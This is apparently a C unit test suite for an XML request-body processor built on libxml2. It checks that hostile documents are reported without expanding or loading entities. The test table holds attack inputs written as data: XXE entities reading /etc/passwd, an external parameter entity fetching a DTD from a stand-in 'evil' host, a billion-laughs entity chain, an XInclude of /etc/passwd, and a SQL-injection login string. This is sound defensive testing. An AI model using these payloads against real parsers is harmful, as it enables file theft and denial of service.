/*
 * body_xml_test.c — the XML processor over libxml2's push parser: a table
 * of ordinary and hostile documents (XXE, billion laughs, parameter
 * entities, DOCTYPE tricks), each fed whole, split at every byte (and every
 * pair of bytes when short) and byte by byte, asserting the exact fields,
 * flags and verdict; plus limits, teardown without finish(), allocation
 * failure, and silence on stderr.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "body.h"
#include "body_xml.h"

#define EXPECTED_SOURCE(flags)    RP_SRC_XML
#define NEW_PROC(a, lim, fn, ctx) rp_body_xml_new(a, lim, fn, ctx)
#define FREE_PROC(p)              rp_body_xml_abort(p)

#include "body_harness.h"

static const rp_body_limits_t deflim = {
    .max_depth = 16, .max_fields = 100, .max_field_size = 64, .max_name_size = 48};
static const rp_body_limits_t small = {
    .max_depth = 2, .max_fields = 3, .max_field_size = 4, .max_name_size = 8};

#define E RP_ERROR
#define L RP_LIMIT
#define SOAP                                                                                       \
    "<?xml version=\"1.0\"?>\n<s:Envelope xmlns:s=\"http://schemas.xmlsoap.org/soap/envelope/\">"  \
    "<s:Body><login><user>admin' --</user><pass>x</pass></login></s:Body></s:Envelope>"

static const body_case_t cases[] = {
    {"", &deflim, RP_OK, ""},
    {"<a>1</a>", &deflim, RP_OK, "a=1\n"},
    {SOAP, &deflim, RP_OK, "Envelope.Body.login.user=admin' --\nEnvelope.Body.login.pass=x\n"},
    {"<a x=\"1\" y='2'><b z=\"&lt;\"/></a>", &deflim, RP_OK, "a@x=1\na@y=2\na.b@z=<\n"},
    {"<a>x<b>y</b>z</a>", &deflim, RP_OK, "a=x\na.b=y\na=z\n"},
    {"<a>\n  <b>1</b>\n</a>", &deflim, RP_OK, "a.b=1\n"},
    {"<a>SEL<!-- c -->ECT</a>", &deflim, RP_OK, "a=SELECT\n"},
    {"<a><![CDATA[<script>]]></a>", &deflim, RP_OK, "a=<script>\n"},
    {"<a>&lt;&#x41;&#66;&amp;</a>", &deflim, RP_OK, "a=<AB&\n"},
    {"<a>caf\xc3\xa9</a>", &deflim, RP_OK, "a=caf\\xc3\\xa9\n"},
    {"<p:a xmlns:p=\"urn:x\" p:k=\"v\"/>", &deflim, RP_OK, "a@k=v\n"},
    {"<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><a>\xe9</a>", &deflim, RP_OK,
     "a=\\xc3\\xa9\n"},
    {"<a><?pi data?>t</a>", &deflim, RP_OK, "a=t\n"},
    /* XXE and friends: declarations reported, nothing expanded or loaded. */
    {"<!DOCTYPE a><a>1</a>", &deflim, RP_OK, "!DOCTYPE= [ENTITY]\na=1\n"},
    {"<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>", &deflim, E,
     "!DOCTYPE= [ENTITY]\n!ENTITY:x=file:///etc/passwd [ENTITY]\n"},
    {"<!DOCTYPE a [<!ENTITY x \"hello\">]><a>1</a>", &deflim, RP_OK,
     "!DOCTYPE= [ENTITY]\n!ENTITY:x=hello [ENTITY]\na=1\n"},
    {"<!DOCTYPE a [<!ENTITY x \"hello\">]><a>&x;</a>", &deflim, E,
     "!DOCTYPE= [ENTITY]\n!ENTITY:x=hello [ENTITY]\n"},
    {"<!DOCTYPE a [<!ENTITY % p SYSTEM \"http://evil/x.dtd\"> %p;]><a/>", &deflim, E,
     "!DOCTYPE= [ENTITY]\n!ENTITY:%p=http://evil/x.dtd [ENTITY]\n"},
    {"<!DOCTYPE a SYSTEM \"http://evil/x.dtd\"><a>&x;</a>", &deflim, RP_OK,
     "!DOCTYPE=http://evil/x.dtd [ENTITY]\na=&x;\n"},
    {"<!DOCTYPE a PUBLIC \"-//X//Y\" \"http://e/d\"><a/>", &deflim, RP_OK,
     "!DOCTYPE=http://e/d [ENTITY]\n"},
    {"<!DOCTYPE a [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c "
     "\"&b;&b;&b;&b;\">]><a>&c;</a>",
     &deflim, E,
     "!DOCTYPE= [ENTITY]\n!ENTITY:a=x [ENTITY]\n!ENTITY:b=&a;&a;&a;&a; [ENTITY]\n"
     "!ENTITY:c=&b;&b;&b;&b; [ENTITY]\n"},
    {"<!DOCTYPE a [<!NOTATION n SYSTEM \"x\"><!ENTITY u SYSTEM \"f\" NDATA n>]><a/>", &deflim,
     RP_OK, "!DOCTYPE= [ENTITY]\n!ENTITY:u=f [ENTITY]\n"},
    {"<a href=\"&x;\"/>", &deflim, E, ""},
    {"<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\" "
     "parse=\"text\"/></a>",
     &deflim, RP_OK, "a.include@href=/etc/passwd\na.include@parse=text\n"},
    /* Malformed. */
    {"<a>", &deflim, E, ""},
    {"<a></b>", &deflim, E, ""},
    {"<a>1</a><b/>", &deflim, E, "a=1\n"},
    {"<a>1</a>junk", &deflim, E, "a=1\n"},
    {"<a x=1/>", &deflim, E, ""},
    {"<a x=\"1\" x=\"2\"/>", &deflim, E, ""},
    {"<a>&unknown;</a>", &deflim, E, ""},
    {"<a>\x01</a>", &deflim, E, ""},
    {"text", &deflim, E, ""},
    {"   ", &deflim, E, ""},
    {"<a>\xff\xfe</a>", &deflim, E, ""},
    /* Limits: depth 2, 3 fields, values cut at 4, names up to 8. */
    {"<a><b>1</b></a>", &small, RP_OK, "a.b=1\n"},
    {"<a><b><c>1</c></b></a>", &small, L, ""},
    {"<a>123456</a>", &small, RP_OK, "a=1234 [TRUNC]\n"},
    {"<a k=\"123456\"/>", &small, RP_OK, "a@k=1234 [TRUNC]\n"},
    {"<a><b>1</b><b>2</b><b>3</b><b>4</b></a>", &small, L, "a.b=1\na.b=2\na.b=3\n"},
    {"<abcdefghi/>", &small, L, ""},
    {"<abcd><efgh>1</efgh></abcd>", &small, L, ""},
    {"<abcdef kl=\"1\"/>", &small, L, ""},
};

static void test_table(void **state)
{
    (void)state;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++)
        check_row("xml", i, &cases[i], strlen(cases[i].in));
}

static void test_reasons(void **state)
{
    (void)state;
    run_t r;
    run_split("<a>&x;</a>", 10, &deflim, 0, 0, 0, &r);
    assert_string_equal(r.reason, "XML: malformed document");
    run_split("<a>", 3, &deflim, 0, 0, 0, &r);
    assert_int_equal(r.status, RP_ERROR);
    assert_non_null(r.reason);
    run_split("<a><b><c/></b></a>", 18, &small, 0, 0, 0, &r);
    assert_string_equal(r.reason, "XML: nesting too deep");
}

/* A comment that never ends must not make libxml2 buffer without bound. */
static void test_markup_bounded(void **state)
{
    (void)state;
    rp_body_limits_t lim = deflim;
    lim.max_field_size = 1024;
    rp_arena_t *a;
    sink_t s;
    rp_body_proc_t *p = open_proc(&a, &lim, &s);
    char chunk[4096];
    memset(chunk, 'x', sizeof(chunk));
    rp_status_t st = p->feed(p, "<a><!--", 7);
    for (int i = 0; i < 1000 && st == RP_OK; i++)
        st = p->feed(p, chunk, sizeof(chunk));
    assert_int_equal(st, RP_LIMIT);
    assert_string_equal(p->reason, "XML: markup too large");
    rp_body_xml_abort(p);
    rp_arena_free(a);
}

/* Long text streams through with bounded memory. */
static void test_long_text(void **state)
{
    (void)state;
    rp_arena_t *a;
    sink_t s;
    rp_body_proc_t *p = open_proc(&a, &deflim, &s);
    assert_int_equal(p->feed(p, "<a>", 3), RP_OK);
    feed_filler(p, 'x', 1000);
    assert_int_equal(p->feed(p, "</a>", 4), RP_OK);
    assert_int_equal(p->finish(p), RP_OK);
    assert_true(rp_arena_used(a) < 16 * 1024);
    assert_non_null(strstr(s.log, "[TRUNC]"));
    rp_arena_free(a);
}

/* Teardown without finish() frees libxml2's context (ASan's leak check
 * fails the test otherwise); abort is idempotent and later calls fail. */
static void test_abort(void **state)
{
    (void)state;
    rp_arena_t *a;
    sink_t s;
    rp_body_proc_t *p = open_proc(&a, &deflim, &s);
    assert_int_equal(p->feed(p, "<a><b>1</b>", 11), RP_OK);
    rp_body_xml_abort(p);
    rp_body_xml_abort(p);
    rp_body_xml_abort(NULL);
    assert_int_equal(p->feed(p, "</a>", 4), RP_ERROR);
    assert_int_equal(p->finish(p), RP_ERROR);
    /* After a normal finish, abort is a no-op too. */
    p = rp_body_xml_new(a, &deflim, sink_field, &s);
    assert_int_equal(p->feed(p, "<a/>", 4), RP_OK);
    assert_int_equal(p->finish(p), RP_OK);
    rp_body_xml_abort(p);
    rp_arena_free(a);
}

static void test_callback_stops(void **state)
{
    (void)state;
    check_callback_stops(&deflim, 1, "<a><b>1</b><c>2</c></a>", NULL, "a.b=1\n");
}

/* libxml2 must not print: errors go to our handler only. */
static void test_silent(void **state)
{
    (void)state;
    fflush(stderr);
    int saved = dup(2);
    char tmpl[] = "/tmp/rp_xml_stderr_XXXXXX";
    int fd = mkstemp(tmpl);
    assert_true(fd >= 0);
    dup2(fd, 2);
    run_t r;
    run_split("<a><b></a>&x;", 13, &deflim, 0, 0, 0, &r);
    run_split("<!DOCTYPE a SYSTEM \"x\"><a>&y;</a>", 33, &deflim, 0, 0, 0, &r);
    fflush(stderr);
    dup2(saved, 2);
    close(saved);
    off_t size = lseek(fd, 0, SEEK_END);
    close(fd);
    unlink(tmpl);
    assert_int_equal(size, 0);
}

static void test_nomem(void **state)
{
    (void)state;
    const char *in = "<!DOCTYPE a [<!ENTITY e \"v\">]><root k=\"v\"><item>one</item>"
                     "<item>two</item></root>";
    check_nomem(in, strlen(in), &deflim);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_table),          cmocka_unit_test(test_reasons),
        cmocka_unit_test(test_markup_bounded), cmocka_unit_test(test_long_text),
        cmocka_unit_test(test_abort),          cmocka_unit_test(test_callback_stops),
        cmocka_unit_test(test_silent),         cmocka_unit_test(test_nomem),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
